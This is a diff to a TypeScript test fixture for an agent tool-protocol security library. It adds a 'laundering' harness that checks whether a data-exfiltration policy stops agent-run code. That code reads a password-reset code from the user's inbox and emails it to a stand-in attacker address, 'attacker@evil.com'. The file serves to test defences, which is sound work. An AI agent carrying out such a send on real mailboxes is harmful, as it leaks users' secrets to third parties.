@@ -1,11 +1,21 @@
-import { type APIGroup, type ExecutionResult, MemoryCache } from '@agent-tool-protocol/protocol';
+import {
+  type APIGroup,
+  type ExecutionResult,
+  MemoryCache,
+  ProvenanceMode,
+} from '@agent-tool-protocol/protocol';
 import {
   createExecutor,
   createSimpleDispatcher,
   type Executor,
   type ExecutorConfig,
 } from '@agent-tool-protocol/runtime';
-import { createSecurityHooks, type SecurityHooks, type SecurityOptions } from '../src/index.js';
+import {
+  createSecurityHooks,
+  preventDataExfiltration,
+  type SecurityHooks,
+  type SecurityOptions,
+} from '../src/index.js';
 
 export const SECRET = 'reset-884213-XK';
 export const ATTACKER = 'attacker@evil.com';
@@ -109,6 +119,27 @@ export function securedExecutors() {
     created.push({ executor, hooks });
     return { executor, hooks };
   };
+}
+
+/**
+ * Laundering attempts in `ast` mode: `setup` gives a fresh scenario whose executor enforces
+ * preventDataExfiltration, `LOAD` reads the mail's reset code into `secret`, `send` mails `body` (an
+ * expression) to the attacker.
+ */
+export function launderingHarness() {
+  const make = securedExecutors();
+  const setup = () => {
+    const world = scenario();
+    const { executor } = make(world.groups, {
+      provenanceMode: ProvenanceMode.AST,
+      policies: [preventDataExfiltration()],
+      user: [USER_ADDRESS],
+    });
+    return { ...world, executor };
+  };
+  const LOAD = `const mails = await api.email.inbox(); const secret = mails[0].code;`;
+  const send = (body: string) => `await api.email.send({ to: '${ATTACKER}', subject: 'x', body: ${body} });`;
+  return { setup, LOAD, send };
 }
 
 export const CLIENT = { clientId: 'client-1' };
